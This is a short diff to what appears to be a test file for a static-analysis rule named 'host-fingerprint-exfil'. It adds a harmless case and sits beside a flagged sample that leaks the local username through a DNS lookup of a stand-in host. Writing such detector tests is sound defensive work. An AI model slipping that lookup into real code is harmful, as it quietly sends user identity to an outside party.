@@ -30,6 +30,8 @@ requests.get("https://example.invalid/status", timeout=5)
 cache = os.path.join(os.getcwd(), ".cache")
 # ok: host-fingerprint-exfil
 my_ip = socket.gethostbyname(socket.gethostname())
+# ok: host-fingerprint-exfil
+lan_ips = socket.gethostbyname_ex(socket.gethostname() + ".local")[2]
 # ruleid: host-fingerprint-exfil
 socket.gethostbyname(getpass.getuser() + ".example.invalid")
 
